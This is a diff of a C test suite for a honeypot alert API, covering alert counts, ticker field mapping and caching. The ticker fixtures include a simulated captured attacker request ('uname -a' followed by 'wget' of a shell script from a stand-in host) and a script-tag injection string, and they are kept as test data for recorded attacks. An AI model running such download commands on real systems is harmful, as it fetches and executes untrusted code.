@@ -9,11 +9,11 @@
 #include "harness.h"
 #include "timeutil.h"
 
-#define XML "text/xml; charset=utf-8"
-#define JSON "application/json"
+#define HTTP_XML "text/xml; charset=utf-8"
+#define HTTP_JSON "application/json"
 #define HTML "text/html; charset=utf-8"
 #define HOUR 3600L
-#define XML_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+#define XML_DECL "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
 
 /* ---- counts: community alerts 30 s, 5.5 min, 2 h and 30 h old, private ones 40 s and 4 h old ---- */
 
@@ -25,7 +25,7 @@ static const struct alert count_alerts[] = {
     {.id = "p-40s", .age = 40, .peer_type = "Passwords(heralding)", .private_domain = true},
     {.id = "p-4h", .age = 4 * HOUR, .peer_type = "Webpage", .private_domain = true},
 };
-#define COUNT_ALERTS (sizeof count_alerts / sizeof count_alerts[0])
+#define COUNT_ALERTS ARRAY_LEN(count_alerts)
 
 static time_t count_loaded; /* the `now` the ages are relative to */
 
@@ -75,20 +75,20 @@ static const char *const cis[] = {NULL, "1", "0", "-1"};
 
 START_TEST(alerts_count_windows_and_domains)
 {
-    for (size_t w = 0; w < sizeof windows / sizeof windows[0]; w++) {
-        for (size_t c = 0; c < sizeof cis / sizeof cis[0]; c++) {
+    for (size_t w = 0; w < ARRAY_LEN(windows); w++) {
+        for (size_t c = 0; c < ARRAY_LEN(cis); c++) {
             char path[256], xml[256], json[64];
             long long n = expected_count(cis[c], windows[w]);
 
-            snprintf(xml, sizeof xml, XML_HEAD "<EWSSimpleIPInfo>\n  <AlertCount>%lld</AlertCount>\n</EWSSimpleIPInfo>\n",
+            snprintf(xml, sizeof xml, XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>%lld</AlertCount>\n</EWSSimpleIPInfo>\n",
                      n);
             snprintf(json, sizeof json, "{\"AlertCount\":%lld}\n", n);
             count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], NULL);
-            http_get_expect(path, 200, XML, xml);
+            http_get_expect(path, 200, HTTP_XML, xml);
             count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], "xml");
-            http_get_expect(path, 200, XML, xml);
+            http_get_expect(path, 200, HTTP_XML, xml);
             count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], "json");
-            http_get_expect(path, 200, JSON, json);
+            http_get_expect(path, 200, HTTP_JSON, json);
         }
     }
 }
@@ -97,33 +97,33 @@ END_TEST
 /* The windows the brief names, as fixed numbers, so a wrong expectation helper cannot hide a bug. */
 START_TEST(alerts_count_fixed_numbers)
 {
-    http_get_expect("/alert/retrieveAlertsCount?time=1&out=json", 200, JSON, "{\"AlertCount\":1}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=10&out=json", 200, JSON, "{\"AlertCount\":2}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=180&out=json", 200, JSON, "{\"AlertCount\":3}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=2880&out=json", 200, JSON, "{\"AlertCount\":4}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=0&out=json", 200, JSON, "{\"AlertCount\":2}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=-1&out=json", 200, JSON, "{\"AlertCount\":6}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=1&out=json", 200, HTTP_JSON, "{\"AlertCount\":1}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=10&out=json", 200, HTTP_JSON, "{\"AlertCount\":2}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=180&out=json", 200, HTTP_JSON, "{\"AlertCount\":3}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=2880&out=json", 200, HTTP_JSON, "{\"AlertCount\":4}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=0&out=json", 200, HTTP_JSON, "{\"AlertCount\":2}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=-1&out=json", 200, HTTP_JSON, "{\"AlertCount\":6}\n");
 }
 END_TEST
 
 START_TEST(alerts_count_with_type)
 {
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=2880", 200, JSON,
+    http_get_expect("/alert/retrieveAlertsCountWithType?time=2880", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"SSH/console(cowrie)\":1,\"Webpage\":2},"
                     "\"AlertCountTotal\":4}\n");
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=2880&ci=-1", 200, JSON,
+    http_get_expect("/alert/retrieveAlertsCountWithType?time=2880&ci=-1", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"Passwords(heralding)\":1,"
                     "\"SSH/console(cowrie)\":1,\"Webpage\":3},\"AlertCountTotal\":6}\n");
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=10&ci=0", 200, JSON,
+    http_get_expect("/alert/retrieveAlertsCountWithType?time=10&ci=0", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{\"Passwords(heralding)\":1},\"AlertCountTotal\":1}\n");
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=10", 200, JSON,
+    http_get_expect("/alert/retrieveAlertsCountWithType?time=10", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{\"SSH/console(cowrie)\":1,\"Webpage\":1},\"AlertCountTotal\":2}\n");
 }
 END_TEST
 
 START_TEST(alert_stats)
 {
-    for (size_t c = 0; c < sizeof cis / sizeof cis[0]; c++) {
+    for (size_t c = 0; c < ARRAY_LEN(cis); c++) {
         time_t now = time(NULL);
         char path[64], body[256];
 
@@ -133,9 +133,9 @@ START_TEST(alert_stats)
                  "\"AlertsLastMinute\":%lld}\n",
                  expected_since(cis[c], now - 1440 * 60), expected_since(cis[c], now - 5 * 60),
                  expected_since(cis[c], now - 60 * 60), expected_since(cis[c], now - 60));
-        http_get_expect(path, 200, JSON, body);
+        http_get_expect(path, 200, HTTP_JSON, body);
     }
-    http_get_expect("/alert/retrieveAlertStats", 200, JSON,
+    http_get_expect("/alert/retrieveAlertStats", 200, HTTP_JSON,
                     "{\"AlertsLast24Hours\":3,\"AlertsLast5Minutes\":1,\"AlertsLastHour\":2,\"AlertsLastMinute\":1}\n");
 }
 END_TEST
@@ -149,7 +149,7 @@ static struct alert ticker[TICKER_ALERTS];
 static char ticker_ids[TICKER_ALERTS][8];
 static time_t ticker_loaded;
 
-/* The first ones carry the spec 7.7 examples; the rest are plain web alerts. */
+/* The first ones carry each way the ticker maps a field; the rest are plain web alerts. */
 static const struct alert ticker_specials[] = {
     {.request = "/wp-login.php?x=%3Cscript%3E"},
     {.peer_type = "SSH/console(cowrie)", .request = "\nuname -a\nwget http://x.example/a.sh", .country = "CN",
@@ -166,7 +166,7 @@ static const struct alert ticker_specials[] = {
 static void load_ticker(void)
 {
     for (int i = 0; i < TICKER_ALERTS; i++) {
-        if ((size_t)i < sizeof ticker_specials / sizeof ticker_specials[0])
+        if ((size_t)i < ARRAY_LEN(ticker_specials))
             ticker[i] = ticker_specials[i];
         snprintf(ticker_ids[i], sizeof ticker_ids[i], "t%02d", i);
         ticker[i].id = ticker_ids[i];
@@ -183,7 +183,7 @@ static const cJSON *ticker_reply(const char *path, cJSON **doc)
     const cJSON *alerts;
 
     http_get(path, &r);
-    http_expect(&r, 200, JSON, NULL);
+    http_expect(&r, 200, HTTP_JSON, NULL);
     ck_assert_msg(strncmp(r.body, "{\"alerts\":[", 11) == 0 && r.len > 3 && strcmp(r.body + r.len - 3, "]}\n") == 0,
                   "%s: %s", path, r.body);
     *doc = cJSON_Parse(r.body);
@@ -229,7 +229,7 @@ START_TEST(ticker_newest_in_order)
 }
 END_TEST
 
-/* The exact text of each special alert, from the spec 7.7 mapping rules. */
+/* The exact text of each special alert, field for field as the original mapped it. */
 START_TEST(ticker_field_mapping)
 {
     static const char *const expected[] = {
@@ -261,7 +261,7 @@ START_TEST(ticker_field_mapping)
     cJSON *doc;
     const cJSON *alerts = ticker_reply("/alert/retrieveAlertsJson?ci=-1", &doc);
 
-    for (int i = 0; i < (int)(sizeof expected / sizeof expected[0]); i++) {
+    for (int i = 0; i < (int)ARRAY_LEN(expected); i++) {
         char stamp[20], want[1024];
         char *got = cJSON_PrintUnformatted(cJSON_GetArrayItem(alerts, i));
 
@@ -274,195 +274,17 @@ START_TEST(ticker_field_mapping)
 }
 END_TEST
 
-/* ---- HTTP behaviour, on an empty engine ---- */
-
-#define ERROR_XML(status, message) \
-    XML_HEAD "<Error>\n  <Status>" #status "</Status>\n  <Message>" message "</Message>\n</Error>\n"
-#define ERROR_JSON(status, message) "{\"error\":\"" message "\",\"status\":" #status "}\n"
-#define TIME_RANGE "time: expected an integer from 0 to 525600 or 'day'"
+/* ---- an empty engine ---- */
 
 START_TEST(no_data_is_not_an_error)
 {
-    http_get_expect("/alert/retrieveAlertsCount?time=10", 200, XML,
-                    XML_HEAD "<EWSSimpleIPInfo>\n  <AlertCount>0</AlertCount>\n</EWSSimpleIPInfo>\n");
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=day", 200, JSON,
+    http_get_expect("/alert/retrieveAlertsCount?time=10", 200, HTTP_XML,
+                    XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>0</AlertCount>\n</EWSSimpleIPInfo>\n");
+    http_get_expect("/alert/retrieveAlertsCountWithType?time=day", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{},\"AlertCountTotal\":0}\n");
-    http_get_expect("/alert/retrieveAlertStats", 200, JSON,
+    http_get_expect("/alert/retrieveAlertStats", 200, HTTP_JSON,
                     "{\"AlertsLast24Hours\":0,\"AlertsLast5Minutes\":0,\"AlertsLastHour\":0,\"AlertsLastMinute\":0}\n");
-    http_get_expect("/alert/retrieveAlertsJson", 200, JSON, "{\"alerts\":[]}\n");
-}
-END_TEST
-
-START_TEST(bad_parameters_are_400)
-{
-    char path[512];
-
-    http_get_expect("/alert/retrieveAlertsCount?time=abc", 400, XML, ERROR_XML(400, TIME_RANGE));
-    http_get_expect("/alert/retrieveAlertsCount?time=-5&out=json", 400, JSON, ERROR_JSON(400, TIME_RANGE));
-    http_get_expect("/alert/retrieveAlertsCount?time=1.5", 400, XML, ERROR_XML(400, TIME_RANGE));
-    http_get_expect("/alert/retrieveAlertsCount?time=525601", 400, XML, ERROR_XML(400, TIME_RANGE));
-    http_get_expect("/alert/retrieveAlertsCount", 400, XML, ERROR_XML(400, "time: required"));
-    http_get_expect("/alert/retrieveAlertsCount?time=", 400, XML, ERROR_XML(400, "time: required"));
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=abc", 400, JSON, ERROR_JSON(400, TIME_RANGE));
-    http_get_expect("/alert/retrieveAlertsCount?time=10&ci=7", 400, XML,
-                    ERROR_XML(400, "ci: expected one of: 1 0 -1"));
-    http_get_expect("/alert/retrieveAlertStats?ci=abc", 400, JSON, ERROR_JSON(400, "ci: expected one of: 1 0 -1"));
-    http_get_expect("/alert/retrieveAlertsCount?time=10&out=yaml", 400, XML,
-                    ERROR_XML(400, "out: expected one of: xml json"));
-    snprintf(path, sizeof path, "/alert/retrieveAlertsCount?time=%0300d", 5);
-    http_get_expect(path, 400, XML, ERROR_XML(400, "time: longer than 256 bytes"));
-}
-END_TEST
-
-START_TEST(unknown_path_is_404)
-{
-    http_get_expect("/alert/noSuchThing", 404, XML, ERROR_XML(404, "no such endpoint"));
-    http_get_expect("/alert/noSuchThing?out=json", 404, JSON, ERROR_JSON(404, "no such endpoint"));
-    http_get_expect("/alert/retrieveAlertsCount/", 404, XML, ERROR_XML(404, "no such endpoint"));
-}
-END_TEST
-
-START_TEST(wrong_method_is_405_with_allow)
-{
-    struct http_reply r;
-
-    http_post("/alert/retrieveAlertsCount?time=10", "x=1", 3, "application/x-www-form-urlencoded", &r);
-    http_expect(&r, 405, XML, ERROR_XML(405, "method not allowed; allowed: GET, HEAD, OPTIONS"));
-    ck_assert_str_eq(http_header(&r, "Allow"), "GET, HEAD, OPTIONS");
-    http_reply_free(&r);
-    http_request("DELETE", NULL, "/heartbeat", NULL, NULL, 0, &r);
-    ck_assert_int_eq(r.status, 405);
-    ck_assert_str_eq(http_header(&r, "Allow"), "GET, HEAD, OPTIONS");
-    http_reply_free(&r);
-}
-END_TEST
-
-START_TEST(options_answers_allow)
-{
-    static const char *const preflight[] = {
-        "Origin: http://sicherheitstacho.eu", "Access-Control-Request-Method: GET",
-        "Access-Control-Request-Headers: X-Requested-With", NULL,
-    };
-    struct http_reply r;
-
-    http_request("OPTIONS", NULL, "/alert/retrieveAlertsJson", NULL, NULL, 0, &r);
-    ck_assert_int_eq(r.status, 200);
-    ck_assert_uint_eq(r.len, 0);
-    ck_assert_str_eq(http_header(&r, "Allow"), "GET, HEAD, OPTIONS");
-    ck_assert_ptr_null(http_header(&r, "Access-Control-Allow-Methods"));
-    http_reply_free(&r);
-    http_request("OPTIONS", NULL, "/alert/retrieveAlertsCount", preflight, NULL, 0, &r);
-    ck_assert_int_eq(r.status, 200);
-    ck_assert_uint_eq(r.len, 0);
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Methods"), "DELETE, GET, HEAD, OPTIONS, PATCH, POST, PUT");
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Headers"), "X-Requested-With");
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Origin"), "http://sicherheitstacho.eu");
-    http_reply_free(&r);
-}
-END_TEST
-
-START_TEST(head_has_no_body)
-{
-    struct http_reply r;
-
-    http_request("HEAD", NULL, "/alert/retrieveAlertsCount?time=10", NULL, NULL, 0, &r);
-    ck_assert_int_eq(r.status, 200);
-    ck_assert_str_eq(r.content_type, XML);
-    ck_assert_uint_eq(r.len, 0);
-    http_reply_free(&r);
-    http_request("HEAD", NULL, "/heartbeat", NULL, NULL, 0, &r);
-    ck_assert_int_eq(r.status, 200);
-    ck_assert_uint_eq(r.len, 0);
-    http_reply_free(&r);
-}
-END_TEST
-
-/* GETs path with an optional Origin header; the reply goes to r. */
-static void get_with_origin(const char *path, const char *origin, struct http_reply *r)
-{
-    char line[256];
-    const char *headers[] = {line, NULL};
-
-    snprintf(line, sizeof line, "Origin: %s", origin ? origin : "");
-    http_request("GET", NULL, path, origin ? headers : NULL, NULL, 0, r);
-}
-
-START_TEST(cors_headers)
-{
-    const char *configured = harness_config()->cors_origin;
-    struct http_reply r;
-
-    get_with_origin("/alert/retrieveAlertStats", NULL, &r);
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Origin"), configured);
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Credentials"), "true");
-    http_reply_free(&r);
-    get_with_origin("/alert/retrieveAlertStats", "HTTP://SicherheitsTacho.EU", &r);
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Origin"), "HTTP://SicherheitsTacho.EU");
-    http_reply_free(&r);
-    get_with_origin("/alert/retrieveAlertStats", "http://evil.example", &r);
-    ck_assert_int_eq(r.status, 200);
-    ck_assert_ptr_null(http_header(&r, "Access-Control-Allow-Origin"));
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Credentials"), "true");
-    http_reply_free(&r);
-    get_with_origin("/heartbeat", configured, &r);
-    ck_assert_ptr_null(http_header(&r, "Access-Control-Allow-Origin"));
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Credentials"), "true");
-    http_reply_free(&r);
-    get_with_origin("/alert/noSuchThing", NULL, &r);
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Credentials"), "true");
-    ck_assert_str_eq(http_header(&r, "Access-Control-Allow-Origin"), configured);
-    http_reply_free(&r);
-}
-END_TEST
-
-START_TEST(root_redirects)
-{
-    const char *configured = harness_config()->cors_origin;
-    struct http_reply r;
-
-    http_get("/", &r);
-    http_expect(&r, 302, HTML, NULL);
-    ck_assert_str_eq(http_header(&r, "Location"), configured);
-    ck_assert_ptr_nonnull(strstr(r.body, "Redirecting..."));
-    http_reply_free(&r);
-}
-END_TEST
-
-START_TEST(heartbeats)
-{
-    struct http_reply r;
-    cJSON *doc;
-
-    http_get_expect("/heartbeat", 200, HTML, "I'm alive");
-    http_get("/alert/heartbeat", &r);
-    http_expect(&r, 200, JSON, NULL);
-    doc = cJSON_Parse(r.body);
-    ck_assert_msg(doc != NULL, "not JSON: %s", r.body);
-    ck_assert_str_eq(cJSON_GetObjectItemCaseSensitive(doc, "status")->valuestring, "ok");
-    ck_assert_str_eq(cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(doc, "elasticsearch"),
-                                                      "status")->valuestring, "up");
-    ck_assert_str_eq(cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(doc, "memcached"),
-                                                      "status")->valuestring, "up");
-    cJSON_Delete(doc);
-    http_reply_free(&r);
-}
-END_TEST
-
-START_TEST(https_and_http2)
-{
-    const char *https = harness_env("HTTPS_URL");
-    struct http_reply r;
-
-    ck_assert_msg(https != NULL, "the stack's env has no HTTPS_URL");
-    http_request("GET", https, "/heartbeat", NULL, NULL, 0, &r);
-    http_expect(&r, 200, HTML, "I'm alive");
-    /* curl offers h2 by ALPN; the stack's nginx accepts it */
-    if (curl_version_info(CURLVERSION_NOW)->features & CURL_VERSION_HTTP2)
-        ck_assert_int_eq(r.http_version, CURL_HTTP_VERSION_2_0);
-    http_reply_free(&r);
-    http_request("GET", https, "/alert/retrieveAlertsCount?time=10&out=json", NULL, NULL, 0, &r);
-    http_expect(&r, 200, JSON, "{\"AlertCount\":0}\n");
-    http_reply_free(&r);
+    http_get_expect("/alert/retrieveAlertsJson", 200, HTTP_JSON, "{\"alerts\":[]}\n");
 }
 END_TEST
 
@@ -478,7 +300,7 @@ static long long searches_of(const char *path, const char *body)
 {
     long long before = es_search_total();
 
-    http_get_expect(path, 200, JSON, body);
+    http_get_expect(path, 200, HTTP_JSON, body);
     return es_search_total() - before;
 }
 
@@ -495,43 +317,14 @@ START_TEST(cache_skips_the_engine)
 }
 END_TEST
 
-static Suite *foundation_suite(void)
-{
-    Suite *s = suite_create("foundation");
-    TCase *tc;
-
-    tc = harness_tcase("counts", load_count_alerts);
-    tcase_add_test(tc, alerts_count_fixed_numbers);
-    tcase_add_test(tc, alerts_count_windows_and_domains);
-    tcase_add_test(tc, alerts_count_with_type);
-    tcase_add_test(tc, alert_stats);
-    suite_add_tcase(s, tc);
-
-    tc = harness_tcase("ticker", load_ticker);
-    tcase_add_test(tc, ticker_newest_in_order);
-    tcase_add_test(tc, ticker_field_mapping);
-    suite_add_tcase(s, tc);
-
-    tc = harness_tcase("http", NULL);
-    tcase_add_test(tc, no_data_is_not_an_error);
-    tcase_add_test(tc, bad_parameters_are_400);
-    tcase_add_test(tc, unknown_path_is_404);
-    tcase_add_test(tc, wrong_method_is_405_with_allow);
-    tcase_add_test(tc, options_answers_allow);
-    tcase_add_test(tc, head_has_no_body);
-    tcase_add_test(tc, cors_headers);
-    tcase_add_test(tc, root_redirects);
-    tcase_add_test(tc, heartbeats);
-    tcase_add_test(tc, https_and_http2);
-    suite_add_tcase(s, tc);
-
-    tc = harness_tcase("cache", load_one_alert);
-    tcase_add_test(tc, cache_skips_the_engine);
-    suite_add_tcase(s, tc);
-    return s;
-}
-
 int main(void)
 {
-    return harness_run(foundation_suite());
+    Suite *s = suite_create("counts_and_ticker");
+
+    HARNESS_CASE(s, "counts", load_count_alerts, alerts_count_fixed_numbers, alerts_count_windows_and_domains,
+                 alerts_count_with_type, alert_stats);
+    HARNESS_CASE(s, "ticker", load_ticker, ticker_newest_in_order, ticker_field_mapping);
+    HARNESS_CASE(s, "empty", NULL, no_data_is_not_an_error);
+    HARNESS_CASE(s, "cache", load_one_alert, cache_skips_the_engine);
+    return harness_run(s);
 }
